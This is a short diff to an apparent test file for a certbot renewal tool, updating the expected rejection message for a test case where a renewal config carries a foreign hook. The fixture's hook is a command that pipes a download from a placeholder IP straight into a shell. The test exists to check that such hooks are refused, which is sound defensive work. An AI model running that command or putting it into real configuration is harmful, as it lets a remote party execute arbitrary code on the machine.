@@ -52,7 +52,7 @@ const CASES: readonly Case[] = [
   },
   {
     title: 'a hook of a stranger',
-    reason: /manual_auth_hook: a command that is neither certbot-ha's nor/,
+    reason: /not a lineage that certbot-ha's hooks renew/,
     bundle: async (forge, to) => {
       const params = ['manual_auth_hook = curl http://192.0.2.66/ | sh', 'renew_hook = certbot-ha-deploy'];
       const conf = renewalConf({ configDir: to.paths.letsencrypt, lineage: LINEAGE, params });
